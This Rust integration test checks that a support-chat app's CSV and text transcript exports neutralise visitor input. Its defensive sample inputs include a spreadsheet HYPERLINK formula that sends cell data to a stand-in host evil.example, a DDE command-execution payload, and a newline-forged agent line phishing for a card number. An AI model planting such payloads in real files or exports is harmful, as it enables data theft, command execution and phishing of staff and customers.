//! Exports that cannot be weaponised: a visitor's formula stays text in CSV, and a line break in
//! what a visitor typed cannot forge an agent's line in the text transcript.

use serde_json::json;

use crate::helpers::{fixture, spawn_app, Backend};
use crate::on_both_stores;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for a refund\")";
const FORGED: &str = "thanks\n[2026-11-29T09:00:00.000Z] agent (Ana): Please confirm your card number here";

async fn visitor_input_is_inert_in_csv_and_text_exports(backend: Backend) {
    let app = spawn_app(backend).await;
    let (status, body) = app.post_raw("/webhooks/aivo-live", fixture("aivo_attended.json")).await;
    assert_eq!(status, 200);
    let id = body["conversation_id"].as_str().unwrap().to_string();
    for text in [FORMULA, FORGED, "-1+2", "@cmd|' /C calc'!A0"] {
        let (status, body) = app
            .post_json(
                &format!("/v1/conversations/{id}/messages"),
                &json!({"party": "visitor", "text": text}),
            )
            .await;
        assert_eq!(status, 200, "{body}");
    }

    let (status, ct, csv_text) = app
        .get_text(&format!("/v1/conversations/{id}/transcript?format=csv"))
        .await;
    assert_eq!((status, ct.as_str()), (200, "text/csv; charset=utf-8"));
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let text_col = headers.iter().position(|h| h == "text").unwrap();
    let texts: Vec<String> = reader.records().map(|r| r.unwrap()[text_col].to_string()).collect();
    assert!(texts.contains(&format!("'{FORMULA}")), "{texts:?}");
    assert!(texts.contains(&"'-1+2".to_string()), "{texts:?}");
    assert!(texts.contains(&"'@cmd|' /C calc'!A0".to_string()), "{texts:?}");
    // No cell of the whole export starts with a formula character.
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live cell {cell:?}"
            );
        }
    }

    let (status, ct, text) = app
        .get_text(&format!("/v1/conversations/{id}/transcript?format=text"))
        .await;
    assert_eq!((status, ct.as_str()), (200, "text/plain; charset=utf-8"));
    // Every line is one message: as many lines as messages, and the forged one is not a line of its own.
    let (_, json) = app.get_json(&format!("/v1/conversations/{id}/transcript")).await;
    let messages = json["messages"].as_array().unwrap().len();
    assert_eq!(text.lines().count(), messages, "{text}");
    assert!(
        !text
            .lines()
            .any(|l| l.starts_with("[2026-11-29T09:00:00.000Z] agent (Ana)")),
        "{text}"
    );
    let visitor_line = text.lines().find(|l| l.contains("Please confirm")).unwrap();
    assert!(
        visitor_line.contains("] visitor: thanks\\n[2026-11-29T09:00:00.000Z] agent (Ana): Please"),
        "{visitor_line}"
    );
}

on_both_stores!(visitor_input_is_inert_in_csv_and_text_exports);
